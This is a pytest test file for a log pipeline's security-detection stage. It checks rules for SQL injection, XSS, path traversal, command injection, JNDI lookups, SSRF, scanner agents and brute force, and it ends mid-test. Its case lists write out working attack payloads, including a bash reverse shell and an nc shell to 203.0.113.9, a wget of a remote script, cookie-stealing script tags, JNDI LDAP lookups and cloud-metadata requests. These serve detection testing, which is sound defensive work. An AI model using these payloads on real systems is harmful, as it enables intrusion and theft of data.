"""The security stage: each built-in rule on real-looking input, look-alikes, brute force."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from logpipe.errors import ConfigError
from logpipe.normalize_text import normalize
from logpipe.normalize_text import scan_text as prepare
from logpipe.security_rules import builtin_rules
from logpipe.stages.base import BuildContext
from logpipe.stages.security import FailureWindow, SecurityConfig, SecurityStage
from tests.cpu_time import cpu_seconds

ENGINES = ("hyperscan", "re2")
_STAGES: dict[str, SecurityStage] = {}


def stage(engine: str = "hyperscan", **options) -> SecurityStage:
    if options:
        return SecurityStage(SecurityConfig(matcher=engine, **options), BuildContext())
    if engine not in _STAGES:
        _STAGES[engine] = SecurityStage(SecurityConfig(matcher=engine), BuildContext())
    return _STAGES[engine]


def url(value: str) -> dict:
    return {"url": {"original": value}}


def ua(value: str) -> dict:
    return {"user_agent": {"original": value}}


def body(value: str) -> dict:
    return {"http": {"request": {"body": {"content": value}}}}


def msg(value: str) -> dict:
    return {"message": value}


CASES = [
    (
        "auth.ssh_failure",
        msg("Failed password for invalid user admin from 203.0.113.9 port 53122 ssh2"),
    ),
    ("auth.ssh_failure", msg("Invalid user oracle from 198.51.100.7 port 40112")),
    (
        "auth.ssh_failure",
        msg("error: maximum authentication attempts exceeded for root from 203.0.113.9 port 22"),
    ),
    (
        "auth.ssh_failure",
        msg("Connection closed by authenticating user root 203.0.113.9 port 41234 [preauth]"),
    ),
    (
        "auth.sudo_failure",
        msg("alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ;"),
    ),
    ("auth.sudo_failure", msg("bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root")),
    (
        "auth.pam_failure",
        msg(
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
            "rhost=203.0.113.9  user=root"
        ),
    ),
    ("sqli.tautology", url("/login.php?user=admin%27%20OR%20%271%27=%271&pass=x")),
    ("sqli.tautology", body('username=x") or ("a"="a&password=y')),
    ("sqli.always_true", msg('GET /item.php?id=10+or+1=1-- HTTP/1.1" 200 512')),
    (
        "sqli.union_select",
        url("/products.php?cat=1%20UNION%20ALL%20SELECT%20NULL,concat(user,0x3a,password)--"),
    ),
    ("sqli.union_select", url("/news?id=1/**/UnIoN/**/SeLeCt/**/1,2,3")),
    ("sqli.union_select", {"request": "/index.php?id=-1+union+select+1,version()"}),
    ("sqli.time_based", url("/search?q=1%27%20AND%20SLEEP(5)--%20-")),
    ("sqli.time_based", body("id=1;WAITFOR DELAY '0:0:5'--")),
    ("sqli.time_based", url("/item?id=1)%20or%20pg_sleep(10)--")),
    ("sqli.schema_probe", url("/?id=1 and 1=(select count(*) from information_schema.tables)")),
    ("sqli.dangerous_function", body("q='; EXEC master..xp_cmdshell 'whoami'--")),
    ("sqli.dangerous_function", url("/?id=1 union all select load_file('/etc/hosts')")),
    ("sqli.stacked_query", url("/users?id=5;%20DROP%20TABLE%20users--")),
    ("sqli.comment", url("/login?user=admin%27--&pass=x")),
    ("xss.script_tag", url("/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")),
    ("xss.script_tag", body("comment=&lt;script&gt;fetch('//x.example/'+document.cookie)")),
    ("xss.script_tag", msg("Rejected comment: <script src=//evil.example/x.js></script>")),
    ("xss.script_tag", url("/p?q=%253Cscript%253Ealert(1)%253C/script%253E")),
    ("xss.event_handler", url("/profile?name=<img src=x onerror=alert(1)>")),
    ("xss.event_handler", url('/search?q="%20onmouseover="alert(1)')),
    ("xss.javascript_uri", url("/redirect?to=javascript:alert(document.domain)")),
    ("xss.probe", url('/?q="-prompt(8)-"')),
    ("xss.html_tag", url("/?q=%3Csvg%3E")),
    ("path_traversal.dotdot", url("/download?file=../../config/app.yml")),
    ("path_traversal.dotdot", {"path": "/static/../admin/secret.txt"}),
    ("path_traversal.sensitive_file", msg("open failed: ../../../../etc/passwd: no such file")),
    ("path_traversal.sensitive_file", url("/img?f=..\\..\\..\\windows\\win.ini")),
    ("path_traversal.system_file", url("/cgi-bin/view?file=/etc/passwd")),
    ("path_traversal.system_file", url("/read?path=C:\\Windows\\System32\\drivers\\etc\\hosts")),
    ("path_traversal.encoded", url("/files/..%2f..%2f..%2fetc%2fshadow")),
    ("path_traversal.encoded", url("/%2e%2e/%2e%2e/boot.ini")),
    (
        "path_traversal.encoded",
        msg('GET /a/%252e%252e%252f%252e%252e%252fetc/passwd HTTP/1.1" 404'),
    ),
    ("cmdi.chained_command", url("/ping?host=127.0.0.1;cat%20/etc/passwd")),
    ("cmdi.chained_command", body("host=8.8.8.8 && wget http://203.0.113.9/x.sh -O /tmp/x")),
    ("cmdi.chained_command", url("/diag?ip=1.1.1.1|nc 203.0.113.9 4444 -e /bin/sh")),
    ("cmdi.subshell", url("/lookup?domain=$(whoami).evil.example")),
    ("cmdi.subshell", body("name=`id`")),
    ("cmdi.shell_path", body("cmd=/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")),
    ("cmdi.shell_path", url("/run?c=powershell.exe -enc SQBFAFgA")),
    ("cmdi.shellshock", ua("() { :; }; /bin/bash -c 'cat /etc/passwd'")),
    ("jndi.lookup", ua("${jndi:ldap://203.0.113.9:1389/Exploit}")),
    ("jndi.lookup", msg("login failed for user ${jndi:dns://x.oast.example/a}")),
    ("jndi.lookup", url("/?x=%24%7Bjndi%3Armi%3A%2F%2F203.0.113.9%2Fa%7D")),
    ("jndi.obfuscated", ua("${${lower:j}ndi:${lower:l}dap://x.example/a}")),
    ("jndi.obfuscated", ua("${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}")),
    ("jndi.env_lookup", {"agent": '"${env:AWS_SECRET_ACCESS_KEY}"'}),
    ("scanner.user_agent", ua("sqlmap/1.7.2#stable (https://sqlmap.org)")),
    ("scanner.user_agent", ua("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)")),
    ("scanner.user_agent", ua("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)")),
    ("scanner.user_agent", ua("masscan/1.3 (https://github.com/robertdavidgraham/masscan)")),
    ("scanner.user_agent", ua("Mozilla/5.0 zgrab/0.x")),
    ("scanner.user_agent", ua("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")),
    ("scanner.user_agent", ua("WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)")),
    ("scanner.user_agent", ua("DirBuster-1.0-RC1 (http://www.owasp.org)")),
    ("scanner.user_agent", ua("gobuster/3.6")),
    ("scanner.user_agent", ua("Fuzz Faster U Fool v2.1.0-dev")),
    ("scanner.user_agent", {"agent": '"Mozilla/4.0 (compatible; MSIE 8.0) Acunetix-WVS"'}),
    ("auth.ssh_failure", msg("Invalid user  from 203.0.113.9 port 40112")),
    ("auth.ssh_failure", msg("User bob from 203.0.113.9 not allowed because listed in DenyUsers")),
    ("auth.ssh_failure", msg("Disconnecting: Too many authentication failures for admin")),
    ("auth.pam_failure", msg("pam_unix(sshd:auth): check pass; user unknown")),
    ("auth.sudo_failure", msg("bob : user NOT authorized on host ; TTY=pts/1 ; USER=root")),
    ("auth.su_failure", msg("FAILED SU (to root) mallory on pts/1")),
    ("auth.su_failure", msg("pam_unix(su-l:auth): authentication failure; logname= uid=1000")),
    (
        "auth.http_basic_failure",
        msg('*1 user "bob" was not found in "/etc/nginx/.htpasswd", client: 203.0.113.9'),
    ),
    ("auth.http_basic_failure", msg('*2 user "alice": password mismatch, client: 203.0.113.9')),
    (
        "auth.http_basic_failure",
        msg('AH01617: user bob: authentication failure for "/": Password Mismatch'),
    ),
    ("sqli.order_by_probe", url("/items?id=1%20ORDER%20BY%205--%20-")),
    ("sqli.order_by_probe", url("/items?id=1%27%20order%20by%203%23")),
    ("sqli.tautology", url("/login?u=%2527%2520or%2520%2527x%2527%253D%2527x")),
    ("sqli.tautology", url("/login?u=%22)%20or%20(%22x%22)=(%22x")),
    ("sqli.time_based", url("/a?id=1%20AND%20pg_sleep(5)")),
    ("sqli.time_based", url("/a?id=1;SELECT%20BENCHMARK(5000000,MD5(1))")),
    ("sqli.stacked_query", url("/a?id=1;%20DROP%20TABLE%20users--")),
    ("sqli.error_based", url("/a?id=1%20AND%201=CONVERT(INT,(SELECT%20@@version))--")),
    ("sqli.error_based", url("/a?id=1%20and%20extractvalue(1,concat(0x7e,version()))")),
    ("sqli.blind_probe", url("/a?id=1%20AND%20ASCII(SUBSTRING((SELECT%20user()),1,1))>64")),
    ("sqli.union_select", url("/a?id=1%20/*!50000UnIoN*/%20/*!50000SeLeCt*/%201,2,3")),
    ("sqli.comment", url("/login?user=admin%27--")),
    ("cmdi.chained_command", url("/ping?host=8.8.8.8%0acat%20/etc/passwd")),
    ("cmdi.chained_command", url("/ping?host=8.8.8.8%20%26%26%20whoami")),
    ("cmdi.chained_command", url("/ping?host=8.8.8.8|type%20C:\\Windows\\win.ini")),
    ("cmdi.chained_command", url("/ping?host=8.8.8.8%7C%7Cpowershell%20-nop")),
    ("cmdi.subshell", url("/ping?host=$(id)")),
    ("cmdi.subshell", url("/ping?host=8.8.8.8;cat${IFS}/etc/passwd")),
    ("cmdi.language_call", body("code=system('id');")),
    ("cmdi.language_call", url("/x?f=passthru(%22uname%20-a%22)")),
    ("ssrf.internal_url", url("/fetch?url=http://127.0.0.1:8080/admin")),
    ("ssrf.internal_url", url("/fetch?url=http%3A%2F%2F2130706433%2F")),
    ("ssrf.internal_url", url("/fetch?url=http://0x7f000001/")),
    ("ssrf.internal_url", url("/fetch?url=http://0177.0.0.1/")),
    ("ssrf.internal_url", url("/fetch?url=http://127.1/")),
    ("ssrf.internal_url", url("/fetch?url=http://[::1]:80/")),
    ("ssrf.internal_url", url("/fetch?url=http://[::ffff:127.0.0.1]/")),
    ("ssrf.internal_url", url("/fetch?url=http://192.168.1.1/")),
    ("ssrf.internal_url", url("/fetch?url=https://localhost/")),
    ("ssrf.scheme", url("/fetch?url=file:///etc/passwd")),
    ("ssrf.scheme", url("/fetch?url=gopher://10.0.0.1:6379/_INFO")),
    ("ssrf.scheme", url("/fetch?url=dict://internal:11211/stats")),
    ("ssrf.cloud_metadata", url("/fetch?url=http://169.254.169.254/latest/meta-data/")),
    ("ssrf.cloud_metadata", url("/fetch?url=http://metadata.google.internal/computeMetadata/v1/")),
    ("path_traversal.encoded", url("/files/%u002e%u002e%u2215etc%u2215passwd")),
    ("path_traversal.encoded", url("/files/..%c0%af..%c0%afetc/passwd")),
    ("path_traversal.dotdot", url("/files/..2f..2fetc")),
    ("path_traversal.dotdot", url("/files/....//....//etc")),
    ("recon.sensitive_file", url("/.env")),
    ("recon.sensitive_file", url("/app/.git/config")),
    ("recon.sensitive_file", url("/wp-config.php.bak")),
    ("ssrf.cloud_metadata", url("/fetch?u=http://169.254.169.254/latest/meta-data/iam/")),
]


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize(
    ("rule_id", "event"), CASES, ids=[f"{r}-{n}" for n, (r, _) in enumerate(CASES)]
)
def test_rule_fires(engine: str, rule_id: str, event: dict) -> None:
    out = stage(engine)([_copy(event)])[0]
    assert rule_id in out["rule"]["id"], out.get("rule")
    assert "security_alert" in out["tags"]
    assert rule_id in out["tags"]
    assert "_security_failure" not in out["tags"]
    rule = next(r for r in builtin_rules() if r.id == rule_id)
    assert rule.name in out["rule"]["name"]
    assert set(rule.event_category) <= set(out["event"]["category"])


def test_every_builtin_rule_has_a_case() -> None:
    covered = {rule_id for rule_id, _ in CASES} | {
        "auth.http_unauthorized",
        "auth.http_forbidden",
        "auth.brute_force",
    }
    assert covered == {rule.id for rule in builtin_rules()}


@pytest.mark.parametrize("engine", ENGINES)
def test_http_status_failures(engine: str) -> None:
    events = [
        {"http": {"response": {"status_code": 401}}, "url": {"original": "/api/me"}},
        {"status": "403", "request": "/admin"},
        {"http": {"response": {"status_code": 200}}},
        {"status": 404},
    ]
    out = stage(engine)(events)
    assert out[0]["rule"]["id"] == ["auth.http_unauthorized"]
    assert out[0]["event"] == {
        "category": ["authentication"],
        "type": ["start"],
        "outcome": "failure",
    }
    assert out[1]["rule"]["id"] == ["auth.http_forbidden"]
    assert "rule" not in out[2] and "tags" not in out[2]
    assert "rule" not in out[3]


def test_several_rules_keep_lists_and_merge_existing_fields() -> None:
    event = {
        "url": {"original": "/?q=%3Cscript%3E&f=../../etc/passwd"},
        "user_agent": {"original": "sqlmap/1.7"},
        "event": {"category": "web", "type": ["access"], "outcome": "success"},
        "rule": {"id": "ids-1001"},
        "tags": ["nginx"],
    }
    out = stage()([event])[0]
    assert out["rule"]["id"][0] == "ids-1001"
    assert {"xss.script_tag", "path_traversal.dotdot", "scanner.user_agent"} <= set(
        out["rule"]["id"]
    )
    assert len(out["rule"]["name"]) == len(out["rule"]["id"]) - 1
    assert out["event"]["category"] == ["web", "intrusion_detection"]
    assert out["event"]["type"] == ["access", "info"]
    assert out["event"]["outcome"] == "success"
    assert out["tags"][:2] == ["nginx", "security_alert"]


BENIGN = [
    msg("Customer selection saved for order 4532015112830366"),
    msg("request 3fa85f64-5717-4562-b3f6-2c963f66afa6 done at 2024-05-02T10:15:02+00:00"),
    url("/stations/union-station/departures?select=all"),
    url("/static/js/script.js?v=3"),
    url("/assets/javascript/app.js"),
    url("/login?next=../account"),
    url("/api/v1/orders?sort=created_at&order=desc&page=2&id=4532015112830366"),
    url("/search?q=rock+%26+roll&lang=en"),
    url("/search?q=union+square+hotels"),
    url("/blog/2024/05/how-to-select-a-union-rep"),
    url("/products?color=%23fff&size=L"),
    url("/api/alerts?confirm=true"),
    msg('<a href="../guide/intro.html">back</a>'),
    msg("Invalid user input: field 'email' is required"),
    msg("Retrying in 5s (sleep(5) avoided)"),
    msg("SELECT id FROM orders WHERE status = 'open' UNION SELECT id FROM archive"),
    msg("Executing /bin/sh -c 'backup.sh'"),
    msg("loaded ${HOME}/config with ${PATH:-/usr/bin} and ${VAR:-${DEFAULT}}"),
    msg("User bob authenticated successfully from 203.0.113.9"),
    msg("Build: cd ../../node_modules && npm install"),
    msg("installed packages: nmap, curl, jq"),
    msg("order 1042: 'express' or 'standard' shipping = 2 options"),
    body('{"color":"#fff","op":"and","onload":true,"sort": "name", "order": "asc"}'),
    body("I prefer the selection at Union Square; drop by tomorrow at 10:00"),
    body("name=Tom+%26+Jerry&comment=nice+place%21"),
    ua(
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/17.4 Safari/605.1.15"
    ),
    ua("Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"),
    ua("Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 Chrome/124.0 Mobile Safari"),
    ua("curl/8.5.0"),
    ua("python-requests/2.31.0"),
    {"agent": '"Go-http-client/1.1"'},
    {"http": {"response": {"status_code": 200}}, "url": {"original": "/healthz"}},
    url("/search?q=order%20by%20price"),
    url("/search?q=union%20select%20committee%20report"),
    url("/search?q=O%27Reilly%20or%20Packt%20books"),
    url("/search?q=sleep%20apnea"),
    url("/search?q=cat%20food%20%26%20dog%20food"),
    url("/search?q=AT%26T&type=pdf&id=5"),
    url("/share?url=https://www.wikipedia.org/wiki/Loopback"),
    url("/share?url=https%3A%2F%2Fapi.github.com%2Frepos"),
    url("/share?url=http://8.8.8.8/"),
    url("/docs/v1..v2/diff"),
    msg("Accepted password for alice from 198.51.100.7 port 50022 ssh2"),
    msg("pam_unix(sshd:session): session opened for user alice by (uid=0)"),
    msg("alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id"),
    msg("pam_unix(su-l:session): session opened for user root by alice(uid=1000)"),
    msg("Thread.sleep(5000) in retry loop"),
]


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("event", BENIGN, ids=[str(n) for n in range(len(BENIGN))])
def test_benign_look_alikes_left_alone(engine: str, event: dict) -> None:
    out = stage(engine)([_copy(event)])[0]
    assert out == event


def test_prepare_decodes_only_when_needed() -> None:
    plain = "/api/orders?page=2"
    assert prepare(plain) is plain
    assert prepare("/a%252e%252e/").endswith("\x00/a../")
    assert prepare("&lt;b&gt;").endswith("\x00<b>")
    assert prepare("a%zz") == "a%zz"


@pytest.mark.parametrize(
    ("raw", "normal"),
    [
        ("%2527%2520or%25201%253D1", "' or 1=1"),
        ("%u002e%u002e%u2215etc", "../etc"),
        ("%uff0e%uff0e/", "../"),
        ("..%c0%af..%c1%9c", "../..\\"),
        ("%e0%80%ae%e0%80%ae%f0%80%80%af", "../"),
        ("&#x3c;script&#62;", "<script>"),
        ("UN/**/ION/*!50000SELECT*/1", "UN ION SELECT 1"),
        ("a\tb  +c", "a b c"),
        ("1\u2032 or \u20181\u2019=\u20181", "1' or '1'='1"),
        ("..%00/etc", "../etc"),
    ],
)
def test_normalize_undoes_encodings(raw: str, normal: str) -> None:
    assert normalize(raw) == normal


def test_normalize_is_linear_on_hostile_input() -> None:
    for hostile in ("%25" * 20_000, "/*" * 30_000, "&#" * 30_000, "%c0" * 9_000, "\u2215" * 9_000):
        start = time.perf_counter()
        normalize(hostile)
        assert time.perf_counter() - start < 0.2


def _failure(ip: str, second: int) -> dict:
    return {
        "@timestamp": f"2024-05-02T10:{second // 60:02d}:{second % 60:02d}.000Z",
        "source": {"ip": ip},
        "http": {"response": {"status_code": 401}},
    }


def _brute(events: list[dict]) -> list[bool]:
    return ["auth.brute_force" in e["rule"]["id"] for e in events]


def test_brute_force_fires_at_threshold_within_window() -> None:
    s = stage(brute_force={"threshold": 5, "window_seconds": 60})
    out = s([_failure("203.0.113.9", n * 10) for n in range(7)])
    assert _brute(out) == [False] * 4 + [True] * 3
    brute = out[4]
    assert "authentication" in brute["event"]["category"]
    assert "intrusion_detection" in brute["event"]["category"]


def test_brute_force_needs_failures_inside_the_window() -> None:
    s = stage(brute_force={"threshold": 5, "window_seconds": 60})
    assert not any(_brute(s([_failure("203.0.113.9", n * 30) for n in range(8)])))


def test_brute_force_counts_per_source() -> None:
    s = stage()
    events = [_failure(f"203.0.113.{n % 3}", n) for n in range(12)]
    assert not any(_brute(s(events)))


def test_brute_force_from_sshd_lines_without_source_field() -> None:
    s = stage(brute_force={"threshold": 3, "window_seconds": 60})
    lines = [
        "Failed password for root from 198.51.100.23 port 40001 ssh2",
        "Invalid user admin from 198.51.100.23 port 40002",
        "pam_unix(sshd:auth): authentication failure; rhost=198.51.100.23 user=root",
    ]
    events = [{"@timestamp": f"2024-05-02T10:00:0{n}Z", "message": m} for n, m in enumerate(lines)]
    assert _brute(s(events)) == [False, False, True]


def test_brute_force_time_from_kafka_when_no_timestamp() -> None:
    s = stage(brute_force={"threshold": 2, "window_seconds": 5})
    events = [
        {"status": 401, "clientip": "192.0.2.1", "@metadata": {"kafka": {"timestamp": t}}}
        for t in (1_700_000_000_000, 1_700_000_010_000, 1_700_000_012_000)
    ]
    assert _brute(s(events)) == [False, False, True]


def test_brute_force_can_be_disabled() -> None:
    s = stage(disable=("auth.brute_force",), brute_force={"threshold": 2})
    assert not any(_brute(s([_failure("192.0.2.7", n) for n in range(5)])))


def test_failure_window_memory_is_bounded() -> None:
    window = FailureWindow(threshold=3, window=60, max_sources=100)
    for n in range(10_000):
        window.hit(f"10.0.{n // 256}.{n % 256}", float(n))
    assert len(window) == 100
    assert window.hit("10.0.0.1", 1.0) is False  # evicted long ago: starts afresh


def test_fields_are_configurable() -> None:
    s = stage(fields=("url.original",))
    out = s([{"message": "<script>x</script>", "url": {"original": "/ok"}}])[0]
    assert "rule" not in out


def test_user_rules_add_override_and_unless(tmp_path: Path) -> None:
    rules = tmp_path / "rules.yaml"
    rules.write_text(
        """
rules:
  - id: custom.wp_login
    name: WordPress login probe
    category: reconnaissance
    patterns: ['/wp-login\\.php']
    fields: [url.original]
    unless: '[?&]internal=1'
  - id: scanner.user_agent
    name: Scanner (our list)
    category: scanner
    patterns: ['\\bBadBot\\b']
    fields: [user_agent.original]
""",
        encoding="utf-8",
    )
    s = SecurityStage(
        SecurityConfig(rules_file="rules.yaml", disable=("xss.script_tag",)),
        BuildContext(base_dir=tmp_path),
    )
    out = s(
        [
            url("/wp-login.php"),
            url("/wp-login.php?internal=1"),
            ua("BadBot/2.0"),
            ua("sqlmap/1.7"),
            url("/?q=<script>"),
        ]
    )
    assert out[0]["rule"]["id"] == ["custom.wp_login"]
    assert "rule" not in out[1]
    assert out[2]["rule"]["name"] == ["Scanner (our list)"]
    assert "rule" not in out[3]
    assert "rule" not in out[4]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("rules: [{id: x, name: y, category: z, patterns: ['(unclosed']}]", "security pattern"),
        ("rules: [{id: x, name: y, category: z, patterns: ['a*']}]", "empty"),
        ("rules: [{id: x, name: y, category: z}]", "rule x"),
        ("rules: [{id: Bad Id, name: y, category: z, patterns: [a]}]", "id"),
        ("rules: [{id: x, name: y, category: z, patterns: [a], unless: '(' }]", "unless"),
        ("rules: [{id: x, name: y, category: z, patterns: [a], colour: red}]", "colour"),
        ("rules: {id: x}", "expected a list"),
        ("[{id: x, name: y, category: z, patterns: [a], fields: [referrer]}]", "is scanned"),
        ("rules: [", "not valid YAML"),
    ],
)
def test_bad_user_rules_are_config_errors(tmp_path: Path, content: str, message: str) -> None:
    (tmp_path / "r.yaml").write_text(content, encoding="utf-8")
    with pytest.raises(ConfigError, match=message):
        SecurityStage(SecurityConfig(rules_file="r.yaml"), BuildContext(base_dir=tmp_path))


def test_missing_rules_file_and_unknown_disable_are_config_errors(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"nope\.yaml"):
        SecurityStage(SecurityConfig(rules_file="nope.yaml"), BuildContext(base_dir=tmp_path))
    with pytest.raises(ConfigError, match=r"sqli\.typo"):
        stage(disable=("sqli.typo",))


def test_everything_disabled_still_runs() -> None:
    every = tuple(rule.id for rule in builtin_rules())
    s = stage(disable=every)
    assert s([url("/?q=<script>"), {"status": 401}]) == [url("/?q=<script>"), {"status": 401}]


_TEXT = st.text(
    alphabet=st.sampled_from(list("%'\"<>;|&$`{}()/\\.:=+-#*01 aoruniselctjdp\n\x00é")),
    max_size=80,
)
_VALUE = st.one_of(_TEXT, st.none(), st.integers(), st.lists(_TEXT, max_size=3), st.booleans())


@settings(max_examples=300, deadline=None)
@given(
    message=_VALUE,
    original=_VALUE,
    agent=_VALUE,
    status=_VALUE,
    ip=_VALUE,
    stamp=_VALUE,
    engine=st.sampled_from(ENGINES),
)
def test_never_raises(message, original, agent, status, ip, stamp, engine) -> None:
    event = {
        "message": message,
        "url": {"original": original},
        "user_agent": original if isinstance(agent, bool) else {"original": agent},
        "http": {"response": {"status_code": status}},
        "source": {"ip": ip},
        "@timestamp": stamp,
        "status": 401,
        "rule": message,
        "event": agent,
    }
    out = stage(engine)([event])[0]
    assert "_security_failure" not in out.get("tags", [])


def _copy(event: dict) -> dict:
    return {k: _copy(v) if isinstance(v, dict) else v for k, v in event.items()}


HOSTILE = [
    "%25" * 21_800,
    "/*" * 32_768,
    "' or " * 13_000,
    "../" * 21_800,
    "&#" * 32_768,
    "%c0%ae" * 10_900,
    "%u002e" * 10_900,
    "a" * 65_536,
    "=http://" * 8_192,
    ";id" * 21_800,
    "Failed password for " * 3_200,
]


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("hostile", HOSTILE, ids=[h[:8] for h in HOSTILE])
def test_64kb_hostile_values_stay_under_100ms(engine: str, hostile: str) -> None:
    """Linear, not backtracking: the slowest (`%25` decoded over and over) takes about 40 ms on
    a 2 GHz core; a backtracking pattern takes seconds."""
    security = stage(engine)
    for event in (url(hostile), msg(hostile), ua(hostile)):
        assert cpu_seconds(lambda event=event: security([event])) < 0.1
        assert "_security_failure" not in event.get("tags", [])


def test_failure_window_keys_are_capped() -> None:
    window = FailureWindow(threshold=2, window=60, max_sources=10)
    long_a, long_b = "a" * 100_000 + "1", "a" * 100_000 + "2"
    window.hit(long_a, 0.0)
    assert window.hit(long_b, 1.0)  # the same capped key
    assert all(len(k) <= 64 for k in window._seen)


def test_a_scalar_rule_or_event_field_moves_aside() -> None:
    event = {"rule": "my-rule", "event": "login", **url("/x?id=1%20UNION%20SELECT%20NULL--")}
    stage()([event])
    assert event["_rule"] == "my-rule" and event["_event"] == "login"
    assert "sqli.union_select" in event["rule"]["id"]


def test_compiled_scanners_are_cached_on_disk_and_a_damaged_file_is_compiled_again(
    tmp_path, monkeypatch
):
    from logpipe import hyperscan_db
    from logpipe.stages import security as security_module

    monkeypatch.setenv("LOGPIPE_CACHE", str(tmp_path))
    monkeypatch.setattr(hyperscan_db, "_COMPILED", {})
    patterns = [("union\\s+select", True), ("etc/passwd", False)]
    scan = security_module.build_scanner(patterns, "hyperscan")
    (cached,) = (tmp_path / "hyperscan").glob("*.db")
    monkeypatch.setattr(hyperscan_db, "_COMPILED", {})
    assert security_module.build_scanner(patterns, "hyperscan")("x UNION  SELECT") == [0]
    cached.write_bytes(b"damaged")
    monkeypatch.setattr(hyperscan_db, "_COMPILED", {})
    assert security_module.build_scanner(patterns, "hyperscan")("/etc/passwd") == [1]
    assert scan("nothing") == []


_FRAGMENTS = [
    "Failed password for root from 203.0.113.9 port 22 ssh2",
    "1' OR '1'='1",
    "%27%20OR%201=1--",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "${jndi:ldap://x/a}",
    ";cat /etc/shadow",
    "a+b",
    "sqlmap/1.7",
    "http://169.254.169.254/latest/meta-data",
    "GET / HTTP/1.1",
    "é",
    "\n",
    " ",
    "/x?q=1",
    "&#60;",
]
_FIELD = st.one_of(
    st.lists(st.sampled_from(_FRAGMENTS), max_size=4).map("".join),
    st.none(),
    st.integers(min_value=399, max_value=404),
    st.lists(st.sampled_from(_FRAGMENTS), max_size=2),
    st.sampled_from(["401", "403", "²", 401.0, True]),
)


def _sample_event(message, original, agent, status, plain) -> dict:
    return {
        "message": message,
        "url": {"original": original, "query": plain},
        "user_agent": {"original": agent},
        "http": {"response": {"status_code": status}, "request": {"body": {"content": plain}}},
        "path": original,
        "status": plain,
        "source": {"ip": "203.0.113.9"},
        "@timestamp": "2026-11-26T10:00:00Z",
    }


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(_FIELD, _FIELD, _FIELD, _FIELD, _FIELD).map(lambda f: _sample_event(*f)),
        min_size=1,
        max_size=30,
    )
)
def test_the_whole_batch_scan_marks_exactly_what_the_per_event_path_marks(events) -> None:
    fast = stage(brute_force={"threshold": 2})
    slow = stage(brute_force={"threshold": 2})
    slow._prefilter = None
    assert fast._prefilter is not None
    assert fast([_deep(e) for e in events]) == slow([_deep(e) for e in events])


def test_batch_scan_finds_every_item_past_the_match_cap() -> None:
    from logpipe.batch_scan import MATCH_CAP

    hostile = "%" * (MATCH_CAP * 3)
    items = ["clean", hostile, "x", "/a%20b", *["y"] * 50, hostile, "z%"]
    events = [url(item) for item in items]
    security = stage()
    scan, _ = security._prefilter(events)
    url_field = [(root, rest) for root, rest, *_ in security._fields].index(("url", ("original",)))
    assert scan == {n: {url_field: None} for n in (1, 3, 54, 55)}  # capped: not known exactly


def test_a_batch_of_sshd_failures_is_known_exactly_without_reaching_the_match_cap() -> None:
    line = "Failed password for invalid user u{n} from 198.51.100.{host} port {port} ssh2"
    events = [{"message": line.format(n=n, host=n % 250, port=40000 + n)} for n in range(1000)]
    scan, _ = stage()._prefilter(events)
    assert len(scan) == 1000
    assert all(known is not None for fields in scan.values() for known in fields.values())


def _deep(value):
    if isinstance(value, dict):
        return {k: _deep(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_deep(v) for v in value]
    return value


def test_a_column_no_event_has_is_skipped_without_moving_the_others() -> None:
    security = stage()
    fields = [(root, rest) for root, rest, *_ in security._fields]
    # url.query and path share url.original's group; only path has values here
    events = [{"path": "/x"}, {"path": "/../../etc/passwd"}, {"message": "fine"}]
    scan, _ = security._prefilter(events)
    (found,) = scan[1].values()
    assert list(scan) == [1] and list(scan[1]) == [fields.index(("path", ()))]
    assert found  # the patterns it matches, known from the batch scan
    assert security([_deep(e) for e in events])[1]["tags"][0] == "security_alert"


def test_status_fields_are_read_in_order_until_one_has_a_rule() -> None:
    s = stage()
    rule_of = s._status_rule
    assert rule_of({"http": {"response": {"status_code": 200}}, "status": "401"}).id
    assert rule_of({"http": {"response": "401"}, "status": 403}) is rule_of({"status": 403})
    assert rule_of({"status": 401.0}) is None
    assert rule_of({"status": " 401"}) is None
    assert rule_of({"status": [401]}) is None
    assert rule_of({}) is None


def test_the_source_is_the_first_non_empty_text_then_the_message() -> None:
    source = stage()._source
    assert source({"source": {"ip": ["192.0.2.7", "x"]}, "clientip": "192.0.2.8"}) == "192.0.2.7"
    assert source({"source": {"ip": ""}, "client": "x", "clientip": "192.0.2.8"}) == "192.0.2.8"
    assert source({"source": "192.0.2.9", "message": "Failed x from 192.0.2.1 port 2"}) == (
        "192.0.2.1"
    )
    assert source({"source": {"ip": []}, "message": 5}) is None


@pytest.mark.parametrize(
    "values",
    [
        ["..%2f..%2fetc%2fpasswd", "%27%20OR%20%271%27%3D%271", "%0a;cat /etc/shadow", "ok"],
        ["%C3%A9%27 or 1=1--", "%2527%20union%20select%20null", "%%", "a+b", "%2e%2e/x"],
        ["plain", "%3Cscript%3Ealert(1)%3C/script%3E", "&#60;script&#62;", "%0d%0a%20id"],
    ],
)
def test_normal_forms_resolved_in_the_batch_mark_what_the_per_event_path_marks(values) -> None:
    events = [
        {"url": {"original": value, "query": value[::-1]}, "message": f"GET {value} x"}
        for value in values
    ]
    fast = stage(tag="security_alert")  # options: fresh stages, not the shared one
